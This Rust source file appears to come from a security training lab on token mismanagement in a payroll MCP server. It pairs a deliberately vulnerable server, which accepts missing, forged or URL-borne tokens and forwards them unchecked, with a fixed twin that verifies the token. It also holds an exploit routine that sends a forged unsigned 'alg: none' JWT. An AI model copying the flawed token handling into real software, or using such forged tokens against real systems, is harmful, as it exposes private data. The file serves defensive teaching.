//! `token-mismanagement`: a payroll MCP server that takes any bearer token or none, also takes
//! one from the URL (`?access_token=`), and hands whatever it got to the payroll API behind it
//! (token passthrough), checking neither signature, issuer nor audience. Without a token it
//! falls back to its own service key. Anyone who reaches it reads everyone's salary.
//!
//! Fixed twin: Belay's resource-server check ([`belay_auth::Protection`]) in front: a token
//! signed by the configured issuer, unexpired, issued for this server (audience), in the
//! `Authorization` header only. The tool then asks the payroll API with the server's own
//! credential for the verified caller's row alone; the caller's token never leaves the server.
//! Without an issuer the fixed twin refuses every request and says how to give it one.
//!
//! HTTP only: over stdio there is no token to mismanage.

use std::sync::Arc;

use axum::{
    Json, Router,
    extract::Request,
    middleware::{self, Next},
    response::{IntoResponse, Response},
};
use belay_auth::{Caller, Protection, ResourceSpec};
use belay_client::{ConnectOptions, Target};
use belay_mcp::{HttpOptions, RouterWrap, Transport, schema::portable_tools};
use http::{HeaderValue, StatusCode, header};
use rmcp::{
    ServerHandler,
    handler::server::router::tool::ToolRouter,
    model::{CallToolResult, ContentBlock, Extensions},
    tool, tool_handler, tool_router,
};
use serde_json::{Map, json};
use tokio_util::sync::CancellationToken;

use crate::{
    ExploitError, Lab, LabName, Report, Variant,
    agent::{Agent, Answer, Step},
    owasp::Risk,
};

/// The lab.
pub const LAB: Lab = Lab {
    name: LabName::TokenMismanagement,
    title: "A payroll server that takes any token, or none, and passes it on",
    risks: &[Risk::TokenMismanagement, Risk::WeakAuth],
    attack: "No token, a forged unsigned JWT, or a token in the URL: the server checks none, \
             forwards what it got to the payroll API (or uses its own key) and returns \
             everyone's salary.",
    fix: "Belay's resource-server check (issuer's signature, expiry, audience = this server, \
          header only); the payroll API is asked with the server's own credential for the \
          verified caller's row only.",
    defence: "The gateway's resource-server check refuses the call before any upstream sees it \
              (401); the gateway never forwards a caller's token upstream.",
    transports: &[Transport::Http],
};

/// What the fixed twin says to everyone when it was started without an issuer.
pub const NO_ISSUER: &str = "this server checks tokens against an issuer and none was \
    configured, so it refuses every request: start it with `belay lab run token-mismanagement \
    --fixed --transport http --issuer URL` (the issuer of `belay up` or `belay auth serve`)";

/// One row of the payroll API (invented).
#[derive(Debug, Clone, Copy)]
struct Salary {
    user: &'static str,
    name: &'static str,
    yearly_usd: u32,
}

const PAYROLL: &[Salary] = &[
    Salary {
        user: "ada",
        name: "Ada Lovelace",
        yearly_usd: 182_000,
    },
    Salary {
        user: "grace",
        name: "Grace Hopper",
        yearly_usd: 241_500,
    },
    Salary {
        user: "alan",
        name: "Alan Turing",
        yearly_usd: 176_250,
    },
];

/// How the MCP server presents itself to the payroll API.
#[derive(Debug)]
enum Credential<'a> {
    /// The MCP server's own key, for every row.
    ServiceKey,
    /// Whatever token the caller sent, passed on as is.
    Forwarded(&'a str),
    /// The MCP server's own key, for one verified user's row.
    OnBehalfOf(&'a str),
}

/// The payroll API behind the server (in-process: no network). It trusts the MCP server,
/// as internal APIs often trust whatever sits inside the network: a forwarded token is taken
/// at its word, which is what makes passthrough dangerous.
fn payroll_api(credential: &Credential<'_>) -> Vec<Salary> {
    match credential {
        Credential::ServiceKey | Credential::Forwarded(_) => PAYROLL.to_vec(),
        Credential::OnBehalfOf(user) => PAYROLL
            .iter()
            .filter(|s| s.user == *user)
            .copied()
            .collect(),
    }
}

impl Credential<'_> {
    /// How the payroll API was asked, for the result (a token by its first characters only).
    fn describe(&self) -> String {
        match self {
            Credential::ServiceKey => "the server's own key".into(),
            Credential::Forwarded(token) => {
                let shown: String = token.chars().take(12).collect();
                format!(
                    "the caller's token {shown}… ({} characters), forwarded",
                    token.chars().count()
                )
            }
            Credential::OnBehalfOf(user) => format!("the server's own key, for {user} only"),
        }
    }
}

fn listing(rows: &[Salary]) -> String {
    rows.iter()
        .map(|s| format!("{} ({}): {} USD a year", s.name, s.user, s.yearly_usd))
        .collect::<Vec<_>>()
        .join("\n")
}

/// The token a request carries, as the vulnerable server reads it: the `Authorization`
/// header, else an `access_token` in the URL's query.
fn token_of(parts: Option<&http::request::Parts>) -> Option<String> {
    let parts = parts?;
    let header = parts
        .headers
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| {
            v.strip_prefix("Bearer ")
                .or_else(|| v.strip_prefix("bearer "))
        })
        .map(str::trim)
        .filter(|t| !t.is_empty());
    if let Some(token) = header {
        return Some(token.to_owned());
    }
    parts.uri.query().and_then(|query| {
        query
            .split('&')
            .find_map(|pair| pair.strip_prefix("access_token="))
            .filter(|t| !t.is_empty())
            .map(str::to_owned)
    })
}

/// The vulnerable server.
#[derive(Debug, Clone)]
pub struct Passthrough {
    tool_router: ToolRouter<Self>,
}

#[tool_router]
impl Passthrough {
    /// A new server.
    pub fn new() -> Self {
        Self {
            tool_router: portable_tools(Self::tool_router()),
        }
    }

    #[tool(description = "Your payroll record, from the payroll API.")]
    async fn get_payroll(&self, extensions: Extensions) -> CallToolResult {
        // The flaws: any token or none, from the header or the URL, passed on unchecked.
        let token = token_of(extensions.get::<http::request::Parts>());
        let credential = match &token {
            Some(token) => Credential::Forwarded(token),
            None => Credential::ServiceKey,
        };
        let rows = payroll_api(&credential);
        CallToolResult::success(vec![ContentBlock::text(format!(
            "Payroll (the payroll API was called with {}):\n{}",
            credential.describe(),
            listing(&rows)
        ))])
    }
}

impl Default for Passthrough {
    fn default() -> Self {
        Self::new()
    }
}

#[tool_handler(router = self.tool_router, name = "belay-lab-token-mismanagement")]
impl ServerHandler for Passthrough {}

/// The fixed twin: runs behind [`resource_check`], which puts the verified [`Caller`] in
/// each request.
#[derive(Debug, Clone)]
pub struct Checked {
    tool_router: ToolRouter<Self>,
}

#[tool_router]
impl Checked {
    /// A new server (serve it behind [`resource_check`]).
    pub fn new() -> Self {
        Self {
            tool_router: portable_tools(Self::tool_router()),
        }
    }

    #[tool(description = "Your payroll record, from the payroll API.")]
    async fn get_payroll(&self, extensions: Extensions) -> CallToolResult {
        // Only the verified caller counts: not a header read here, not the URL.
        let Some(caller) = Caller::from_rmcp_parts(extensions.get::<http::request::Parts>()) else {
            return CallToolResult::error(vec![ContentBlock::text(
                "no verified caller: serve this server behind the resource-server check",
            )]);
        };
        let rows = payroll_api(&Credential::OnBehalfOf(&caller.sub));
        if rows.is_empty() {
            return CallToolResult::success(vec![ContentBlock::text(format!(
                "No payroll record for {}.",
                caller.username.as_deref().unwrap_or(&caller.sub)
            ))]);
        }
        CallToolResult::success(vec![ContentBlock::text(listing(&rows))])
    }
}

impl Default for Checked {
    fn default() -> Self {
        Self::new()
    }
}

#[tool_handler(router = self.tool_router, name = "belay-lab-token-mismanagement-fixed")]
impl ServerHandler for Checked {}

/// Belay's resource-server check trusting `issuer`, for the fixed twin's
/// [`HttpOptions::wrap`]: the audience is the URL the server is bound to. Errors when the
/// issuer is not a URL.
pub fn resource_check(issuer: &str) -> Result<RouterWrap, belay_auth::Error> {
    let spec = ResourceSpec {
        issuer: issuer.to_owned(),
        ..ResourceSpec::default()
    };
    // Refuse a bad issuer now, not at the first request.
    Protection::new(&spec, "http://127.0.0.1/mcp")?;
    Ok(Arc::new(move |router: Router, url: &str| {
        let protection = Protection::new(&spec, url).map_err(|e| e.to_string())?;
        Ok(protection.protect(router))
    }))
}

/// Without an issuer: every request is refused with [`NO_ISSUER`].
fn refuse_everyone() -> RouterWrap {
    Arc::new(|router: Router, _url: &str| Ok(router.layer(middleware::from_fn(refuse))))
}

async fn refuse(_: Request, _: Next) -> Response {
    let mut response = (
        StatusCode::UNAUTHORIZED,
        Json(json!({"error": "invalid_token", "error_description": NO_ISSUER})),
    )
        .into_response();
    response.headers_mut().insert(
        header::WWW_AUTHENTICATE,
        HeaderValue::from_static("Bearer error=\"invalid_token\""),
    );
    response
}

/// Serves `variant` over HTTP until `shutdown`. The fixed twin runs behind `options.wrap`
/// when one is given ([`resource_check`]), else refuses everyone.
pub async fn serve(
    variant: Variant,
    transport: Transport,
    options: &HttpOptions,
    shutdown: CancellationToken,
    on_ready: impl FnOnce(String),
) -> Result<(), belay_mcp::Error> {
    if !LAB.transports.contains(&transport) {
        return Err(belay_mcp::Error::Setup(format!(
            "the token-mismanagement lab is served over HTTP only (`--transport http`), not \
             {transport}"
        )));
    }
    match variant {
        Variant::Vulnerable => {
            belay_mcp::serve(Passthrough::new(), transport, options, shutdown, on_ready).await
        }
        Variant::Fixed => {
            let mut options = options.clone();
            if options.wrap.is_none() {
                options.wrap = Some(refuse_everyone());
            }
            belay_mcp::serve(Checked::new(), transport, &options, shutdown, on_ready).await
        }
    }
}

/// A JWT anyone can write: `alg: none`, no signature, claiming a payroll administrator of
/// another service. Header `{"alg":"none","typ":"JWT"}`; claims `{"iss":
/// "https://login.example.com","sub":"payroll-admin","aud":"https://payroll.example.com",
/// "scope":"payroll:read payroll:admin mcp:tools","exp":4102444800}`.
pub const FORGED_JWT: &str = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.\
    eyJpc3MiOiJodHRwczovL2xvZ2luLmV4YW1wbGUuY29tIiwic3ViIjoicGF5cm9sbC1hZG1pbiIsImF1ZCI6Imh0\
    dHBzOi8vcGF5cm9sbC5leGFtcGxlLmNvbSIsInNjb3BlIjoicGF5cm9sbDpyZWFkIHBheXJvbGw6YWRtaW4gbWNwOnRvb2xzIiwiZXhwIjo0MTAyNDQ0ODAwfQ.";

/// One way in the exploit tries.
#[derive(Debug, Clone, Copy)]
enum Attempt {
    Anonymous,
    ForgedHeader,
    TokenInUrl,
}

impl Attempt {
    const ALL: [Attempt; 3] = [
        Attempt::Anonymous,
        Attempt::ForgedHeader,
        Attempt::TokenInUrl,
    ];

    fn why(self) -> &'static str {
        match self {
            Attempt::Anonymous => "an attacker with no token at all asked for the payroll",
            Attempt::ForgedHeader => {
                "an attacker sent a forged, unsigned JWT for another audience as the bearer token"
            }
            Attempt::TokenInUrl => {
                "an attacker put a token in the URL (`?access_token=`), where logs and \
                 referrers keep it"
            }
        }
    }

    fn short(self) -> &'static str {
        match self {
            Attempt::Anonymous => "no token",
            Attempt::ForgedHeader => "a forged unsigned JWT",
            Attempt::TokenInUrl => "a token in the URL",
        }
    }

    /// `target` as this attempt sends it: whatever credential it carried removed, then this
    /// attempt's added.
    fn target(self, target: &Target) -> Target {
        let mut target = target.clone();
        if let belay_client::Transport::Http { url, headers }
        | belay_client::Transport::Sse { url, headers } = &mut target.transport
        {
            headers.retain(|name, _| !name.eq_ignore_ascii_case("authorization"));
            match self {
                Attempt::Anonymous => {}
                Attempt::ForgedHeader => {
                    headers.insert("Authorization".into(), format!("Bearer {FORGED_JWT}"));
                }
                Attempt::TokenInUrl => {
                    let joint = if url.contains('?') { '&' } else { '?' };
                    url.push_str(&format!("{joint}access_token={FORGED_JWT}"));
                }
            }
        }
        target
    }
}

/// Whether a connection error is a refusal to let the caller in (rather than an
/// unreachable or broken target).
fn refused_entry(reason: &str) -> bool {
    let lower = reason.to_lowercase();
    [
        "401",
        "403",
        "unauthorized",
        "sign-in",
        "sign in",
        "invalid_token",
        "invalid_request",
        "temporarily_unavailable",
    ]
    .iter()
    .any(|w| lower.contains(w))
}

/// Calls `get_payroll` without a token, with a forged one, and with one in the URL.
pub async fn exploit(targets: &[Target], options: &ConnectOptions) -> Result<Report, ExploitError> {
    let Some(target) = targets.first() else {
        return Err(ExploitError::Connect("no target to attack".into()));
    };
    if !matches!(
        target.transport,
        belay_client::Transport::Http { .. } | belay_client::Transport::Sse { .. }
    ) {
        return Err(ExploitError::Connect(
            "the token-mismanagement exploit attacks an HTTP endpoint".into(),
        ));
    }
    let mut steps = Vec::new();
    for attempt in Attempt::ALL {
        match Agent::connect(&[attempt.target(target)], options).await {
            Ok(mut agent) => {
                agent.task("get_payroll", json!({}), attempt.why()).await;
                steps.extend(agent.close().await);
            }
            Err(ExploitError::Connect(reason)) if refused_entry(&reason) => steps.push(Step {
                tool: "get_payroll".into(),
                arguments: Map::new(),
                because: attempt.why().into(),
                answer: Answer::Refused {
                    code: 401,
                    message: format!("the server refused the session: {reason}"),
                    data: None,
                },
            }),
            Err(other) => return Err(other),
        }
    }
    Ok(judge(steps))
}

/// Whether `text` holds payroll rows of anyone.
fn salaries_in(text: &str) -> Vec<&'static str> {
    PAYROLL
        .iter()
        .filter(|s| text.contains(&s.yearly_usd.to_string()))
        .map(|s| s.name)
        .collect()
}

fn judge(steps: Vec<Step>) -> Report {
    let lab = LabName::TokenMismanagement;
    let mut ways = Vec::new();
    let mut whose: Vec<&str> = Vec::new();
    for (step, attempt) in steps.iter().zip(Attempt::ALL) {
        if let Answer::Answered {
            text,
            is_error: false,
        } = &step.answer
        {
            let names = salaries_in(text);
            if !names.is_empty() {
                ways.push(attempt.short());
                for name in names {
                    if !whose.contains(&name) {
                        whose.push(name);
                    }
                }
            }
        }
    }
    if !ways.is_empty() {
        return Report::succeeded(
            lab,
            format!(
                "the payroll came back with {}: the salaries of {}",
                ways.join(", with "),
                whose.join(", ")
            ),
            steps,
        );
    }
    let defence = steps.iter().find_map(|s| match &s.answer {
        Answer::Refused { message, .. } if message.contains(NO_ISSUER) => Some(
            "the fixed server's resource-server check, which has no issuer and so lets no \
             one in"
                .to_owned(),
        ),
        Answer::Refused { code: 401, .. } => Some(
            "the resource-server check: no valid token for this server in the Authorization \
             header, no session"
                .to_owned(),
        ),
        other => other.defence(),
    });
    Report::failed(
        lab,
        "no attempt got the payroll: a missing, forged or misplaced token opened nothing",
        defence,
        steps,
    )
}

#[cfg(test)]
mod tests;
